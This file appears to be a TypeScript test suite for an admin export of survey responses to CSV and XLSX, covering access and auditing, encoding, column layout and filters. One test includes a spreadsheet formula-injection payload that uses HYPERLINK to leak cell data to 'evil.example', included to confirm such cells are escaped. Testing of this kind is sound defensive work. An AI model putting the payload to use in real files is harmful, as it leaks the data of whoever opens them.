import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { parse as parseCsv } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import request from 'supertest'
import { createServices } from '../../src/services'
import { useTestApp } from '../support/app'
import { type SignedInAgents, useSignedInAgents } from '../support/auth'
import { createSurveyFixture, type FixtureResponse, type SurveyFixture } from '../support/survey-fixtures'
import { FORMULA_START, TRICKY_TEXTS, unescapeCell } from './tricky-answers'

const context = useTestApp({ now: () => new Date('2024-11-23T10:15:30Z') })
const agents = useSignedInAgents(context)
const BASE = '/admin/consultations/fixture-export/exports'

const RESPONSES: FixtureResponse[] = [
  ...TRICKY_TEXTS.map((text, index): FixtureResponse => ({
    reference: `ANON-TRICKY${String(index).padStart(2, '0')}`,
    channel: index % 2 ? 'paper' : 'online',
    answers: { comments: text, 'use-parks': { other: text }, email: `person${index}@example.org` },
  })),
  {
    reference: 'ANON-FULL0001',
    submittedAt: new Date('2024-06-30T23:30:00Z'),
    answers: {
      'use-parks': 'yes',
      'visit-for': ['play', 'walk'],
      area: 'south',
      plan: 'strongly_agree',
      facilities: { toilets: 'agree', paths: 'disagree' },
      visits: -5,
      'last-visit': '2024-01-05',
      consent: 'yes',
      ward: 'castle',
      'age-band': 'under-35',
    },
  },
]

const binary = (res: NodeJS.ReadableStream, callback: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = []
  res.on('data', (chunk: Buffer) => chunks.push(chunk))
  res.on('end', () => callback(null, Buffer.concat(chunks)))
}
const download = (path: string, role: keyof SignedInAgents = 'analyst') =>
  agents[role]
    .get(path)
    .buffer(true)
    .parse(binary as never)

async function csvRecords(path: string): Promise<{ bytes: Buffer; header: string[]; rows: Record<string, string>[] }> {
  const response = await download(path).expect(200)
  const bytes = response.body as Buffer
  const rows: string[][] = parseCsv(bytes, { bom: true, relax_column_count: false })
  const [header, ...records] = rows
  return {
    bytes,
    header: header!,
    rows: records.map((record) => Object.fromEntries(header!.map((name, index) => [name, record[index]!]))),
  }
}

describe('the responses export', () => {
  let fixture: SurveyFixture
  before(async () => {
    fixture = await createSurveyFixture(context.db, { slug: 'fixture-export', responses: RESPONSES })
  })

  it('is only for analysts and above, and each export is audited', async () => {
    for (const download of ['responses.csv', 'responses.xlsx', 'results.csv']) {
      await request(context.app).get(`${BASE}/${download}`).expect(302).expect('location', '/admin/sign-in')
    }
    const max = Number((await context.db('audit_log').max('id as max').first())?.max ?? 0)
    const exportsSince = () =>
      context
        .db('audit_log')
        .where('id', '>', max)
        .orderBy('id')
        .select('action', 'user_email', 'consultation_id', 'changes')
    await download(`${BASE}/responses.csv?channel=paper`, 'editor').expect(200)
    await download(`${BASE}/responses.xlsx`, 'analyst').expect(200)
    await download(`${BASE}/results.csv`, 'admin').expect(200)
    const recorded = await exportsSince()
    assert.deepEqual(
      recorded.map((row) => [row.action, row.user_email.split('-')[0], row.consultation_id]),
      [
        ['responses.export.csv', 'editor', fixture.consultationId],
        ['responses.export.xlsx', 'analyst', fixture.consultationId],
        ['results.export.csv', 'admin', fixture.consultationId],
      ],
    )
    const changes = typeof recorded[0].changes === 'string' ? JSON.parse(recorded[0].changes) : recorded[0].changes
    assert.deepEqual(changes.after, {
      filter: { channel: 'paper' },
      optionColumns: false,
      personalData: false,
      rows: 6,
    })
  })

  it('is UTF-8 with a BOM and CRLF line ends, named with the slug and the time', async () => {
    const response = await download(`${BASE}/responses.csv`).expect(200)
    const bytes = response.body as Buffer
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
    assert.match(bytes.toString('utf8'), /^\uFEFFReference,[^\n]*\r\n/)
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8')
    assert.equal(
      response.headers['content-disposition'],
      'attachment; filename=fixture-export-responses-20241123T101530Z.csv',
    )
  })

  it('numbers the questions in the header; matrices, Other, About you and codes get their own columns', async () => {
    const { header } = await csvRecords(`${BASE}/responses.csv?optionColumns=yes&personalData=yes`)
    assert.deepEqual(header, [
      'Reference',
      'Submitted (UTC, ISO 8601)',
      'Submitted (Europe/London)',
      'Channel',
      'Q1. Do you use the parks?',
      'Q1. Do you use the parks?: Other (please specify)',
      'Q1. Do you use the parks?: codes',
      'Q2. What do you visit for?',
      'Q2. What do you visit for?: Walking',
      'Q2. What do you visit for?: Play, with children',
      'Q2. What do you visit for?: Sport',
      'Q2. What do you visit for?: Something else (please specify)',
      'Q2. What do you visit for?: codes',
      'Q3. Which area do you live in?',
      'Q4. Do you agree with the plan?',
      'Q5. Rate the facilities: Toilets are clean',
      'Q5. Rate the facilities: Paths are safe',
      'Q6. How many visits a month?',
      'Q7. When did you last visit?',
      'Q8. Any comments?',
      'Q8. Any comments?: codes',
      'Q9. Your email',
      'Q9. Your email: codes',
      'Q10. Can we contact you?',
      'Q11. Which ward do you live in?',
      'Q12. How old are you?',
    ])
  })

  it('gives each response its labels, both submitted times, and numbers and dates as they are', async () => {
    const { rows } = await csvRecords(`${BASE}/responses.csv?optionColumns=yes&personalData=yes`)
    const full = rows.find((row) => row.Reference === 'ANON-FULL0001')!
    assert.equal(full['Submitted (UTC, ISO 8601)'], '2024-06-30T23:30:00Z')
    assert.equal(full['Submitted (Europe/London)'], '2024-07-01 00:30:00')
    assert.equal(full.Channel, 'Online')
    assert.equal(full['Q1. Do you use the parks?'], 'Yes')
    assert.equal(full['Q2. What do you visit for?'], 'Walking; Play, with children')
    assert.deepEqual(
      [
        full['Q2. What do you visit for?: Walking'],
        full['Q2. What do you visit for?: Play, with children'],
        full['Q2. What do you visit for?: Sport'],
      ],
      ['1', '1', '0'],
    )
    assert.equal(full['Q4. Do you agree with the plan?'], 'Strongly agree')
    assert.equal(full['Q5. Rate the facilities: Toilets are clean'], 'Agree')
    assert.equal(full['Q5. Rate the facilities: Paths are safe'], 'Disagree')
    assert.equal(full['Q6. How many visits a month?'], '-5', 'a validated negative number is not escaped')
    assert.equal(full['Q7. When did you last visit?'], '2024-01-05')
    assert.equal(full['Q10. Can we contact you?'], 'I agree')
    assert.equal(full['Q11. Which ward do you live in?'], 'Castle')
    const tricky = rows.find((row) => row.Reference === 'ANON-TRICKY00')!
    assert.equal(tricky['Q1. Do you use the parks?'], 'Other')
    assert.equal(tricky['Q2. What do you visit for?: Walking'], '', 'no 0/1 for a question not answered')
  })

  it('round-trips what residents typed through CSV, less the one apostrophe on formula-like cells', async () => {
    const { rows } = await csvRecords(`${BASE}/responses.csv`)
    TRICKY_TEXTS.forEach((text, index) => {
      const row = rows.find((candidate) => candidate.Reference === `ANON-TRICKY${String(index).padStart(2, '0')}`)!
      for (const cell of [row['Q8. Any comments?']!, row['Q1. Do you use the parks?: Other (please specify)']!]) {
        assert.equal(unescapeCell(cell), text)
        assert.equal(
          cell.startsWith("'") && cell !== text,
          FORMULA_START.test(text),
          `escaping of ${JSON.stringify(text)}`,
        )
      }
    })
  })

  it('makes every formula-like text cell inert', async () => {
    const { bytes, rows } = await csvRecords(`${BASE}/responses.csv`)
    const cells = rows.flatMap((row) => Object.values(row))
    assert.ok(
      cells.every((cell) => !FORMULA_START.test(cell) || cell === '-5'),
      'no cell but the validated number starts a formula',
    )
    assert.ok(bytes.toString('utf8').includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`))
    assert.ok(cells.includes("'@SUM(A1:A9)"))
    assert.ok(cells.includes("'\tstarts with a tab"))
  })

  it('applies the results filters', async () => {
    const { rows } = await csvRecords(`${BASE}/responses.csv?channel=paper`)
    assert.equal(rows.length, 6)
    assert.ok(rows.every((row) => row.Channel === 'Paper'))
    const { rows: july } = await csvRecords(`${BASE}/responses.csv?from-day=1&from-month=7&from-year=2024`)
    assert.deepEqual(
      july.map((row) => row.Reference),
      ['ANON-FULL0001'],
    )
  })

  it("includes the analyst's codes", async () => {
    const { codingService } = createServices(context.db)
    const litter = await codingService.addCode(null, fixture.consultationId, { label: 'Litter' })
    const paths = await codingService.addCode(null, fixture.consultationId, { label: 'Paths' })
    assert.ok(litter.ok && paths.ok)
    const answerId = (
      await context
        .db('response_answers as a')
        .join('responses as r', 'r.id', 'a.response_id')
        .join('survey_questions as q', 'q.id', 'a.question_id')
        .where({ 'r.reference': 'ANON-TRICKY12', 'q.key': 'comments' })
        .first('a.id')
    ).id
    await codingService.tagAnswers(null, fixture.consultationId, new Map([[Number(answerId), [paths.id, litter.id]]]))
    const { rows } = await csvRecords(`${BASE}/responses.csv`)
    assert.equal(rows.find((row) => row.Reference === 'ANON-TRICKY12')!['Q8. Any comments?: codes'], 'Litter; Paths')
    assert.equal(rows.find((row) => row.Reference === 'ANON-TRICKY11')!['Q8. Any comments?: codes'], '')
  })

  it('round-trips through XLSX with typed cells, none of them formulas', async () => {
    const response = await download(`${BASE}/responses.xlsx`).expect(200)
    assert.equal(
      response.headers['content-disposition'],
      'attachment; filename=fixture-export-responses-20241123T101530Z.xlsx',
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(response.body as never)
    const sheet = workbook.getWorksheet('Responses')!
    const header = (sheet.getRow(1).values as unknown[]).slice(1)
    const column = (name: string) => header.indexOf(name) + 1
    const rowFor = (reference: string) => {
      for (let index = 2; index <= sheet.rowCount; index++)
        if (sheet.getRow(index).getCell(1).text === reference) return sheet.getRow(index)
      throw new Error(`no row for ${reference}`)
    }
    TRICKY_TEXTS.forEach((text, index) => {
      const cell = rowFor(`ANON-TRICKY${String(index).padStart(2, '0')}`).getCell(column('Q8. Any comments?'))
      assert.equal(cell.type, ExcelJS.ValueType.RichText, `an inline string cell for ${JSON.stringify(text)}`)
      assert.equal(cell.text, text)
    })
    const full = rowFor('ANON-FULL0001')
    assert.equal(full.getCell(column('Q6. How many visits a month?')).value, -5)
    assert.equal(full.getCell(column('Q6. How many visits a month?')).type, ExcelJS.ValueType.Number)
    assert.deepEqual(full.getCell(column('Q7. When did you last visit?')).value, new Date('2024-01-05T00:00:00Z'))
    assert.deepEqual(full.getCell(column('Submitted (UTC, ISO 8601)')).value, new Date('2024-06-30T23:30:00Z'))
    assert.deepEqual(full.getCell(column('Submitted (Europe/London)')).value, new Date('2024-07-01T00:30:00Z'))
    assert.equal(full.getCell(column('Q2. What do you visit for?')).text, 'Walking; Play, with children')
    let formulas = 0
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++
      }),
    )
    assert.equal(formulas, 0)
  })
})
